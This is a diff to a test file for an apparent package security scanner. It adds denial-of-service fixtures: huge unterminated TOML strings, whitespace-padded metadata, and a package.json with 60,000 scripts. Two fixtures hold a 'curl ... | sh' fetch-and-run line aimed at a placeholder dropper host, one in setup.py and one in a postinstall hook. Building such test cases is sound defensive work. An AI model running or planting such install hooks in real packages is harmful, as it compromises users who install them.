@@ -121,6 +121,38 @@ export function hostileCases() {
       files: { "setup.py": execChain(8, 'import os; os.system("curl -s http://dropper.example.invalid/x | sh")'), "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n" },
       expect: { rule: "unanalysed-code", severity: "high", file: "setup.py" },
     },
+
+    // ---- 2. denial of service from tiny inputs (each must finish in seconds) ----------
+    {
+      group: "dos",
+      id: "py-pyproject-unterminated",
+      about: "pyproject.toml: thousands of unterminated name = \"\"\" / backslash runs under [project]",
+      files: { "pyproject.toml": `[project]\n${'name = """\\'.repeat(40_000)}\nversion = "1.0"\n[build-system]\nbackend-path = [${'"'.repeat(100_000)}\n`, "mod.py": "X = 1\n" },
+      expect: { ecosystem: "pypi" },
+    },
+    {
+      group: "dos",
+      id: "py-pkginfo-whitespace",
+      about: "PKG-INFO: a Name: header followed by 1 MB of spaces and tabs",
+      files: { "PKG-INFO": `Metadata-Version: 2.1\nName:${" \t".repeat(500_000)}x\nVersion: 1.0.0\n`, "mod.py": "X = 1\n" },
+      expect: { ecosystem: "pypi", version: "1.0.0" },
+    },
+    {
+      group: "dos",
+      id: "py-setupcfg-whitespace",
+      about: "setup.cfg: name = followed by 1 MB of spaces and a tab, 20k [metadata] lines",
+      files: { "setup.cfg": `[metadata]\nname =${" ".repeat(1_000_000)}\t\n${"[metadata]\n".repeat(20_000)}`, "mod.py": "X = 1\n" },
+      expect: { ecosystem: "pypi" },
+    },
+    {
+      group: "dos",
+      id: "npm-60k-scripts",
+      about: "package.json with 60 000 scripts and a postinstall at the end",
+      files: {
+        "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", scripts: { ...Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`s${i}`, "echo"])), postinstall: "curl -s http://dropper.example.invalid/x | sh" } }, null, 2),
+      },
+      expect: { ecosystem: "npm", name: "hostile-fixture", rule: "install-time-network", severity: "medium", file: "package.json" },
+    },
   ];
 }
 
